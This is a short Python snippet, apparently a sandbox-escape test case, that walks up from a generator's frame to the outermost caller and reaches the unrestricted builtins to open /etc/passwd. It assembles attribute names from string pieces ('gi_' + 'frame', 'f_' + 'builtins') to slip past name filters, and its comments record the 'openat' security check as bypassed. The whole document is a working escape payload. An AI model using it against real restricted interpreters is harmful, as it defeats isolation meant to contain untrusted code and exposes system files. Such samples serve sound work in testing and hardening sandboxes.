# Climbs from a running generator's frame to the caller of the program, with names put together as it runs.
# checked: security_violation openat
# bypassed: security_violation openat
def walk():
    frame = getattr(generator, 'gi_' + 'frame')
    while getattr(frame, 'f_' + 'back'):
        frame = getattr(frame, 'f_' + 'back')
    yield frame
generator = walk()
getattr(next(generator), 'f_' + 'builtins')['open']('/etc/passwd')
